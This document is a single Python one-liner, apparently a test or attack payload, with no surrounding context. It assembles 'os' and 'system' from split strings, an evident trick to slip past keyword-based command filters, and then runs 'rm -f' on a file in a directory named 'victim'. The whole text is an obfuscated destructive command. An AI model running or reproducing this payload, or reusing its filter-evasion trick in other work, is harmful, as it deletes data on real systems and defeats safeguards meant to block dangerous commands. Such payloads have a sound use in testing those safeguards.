python3 -c "getattr(__import__('o'+'s'),'sys'+'tem')('rm -f /srv/rt/s/d1/home/victim/keep-D42')"
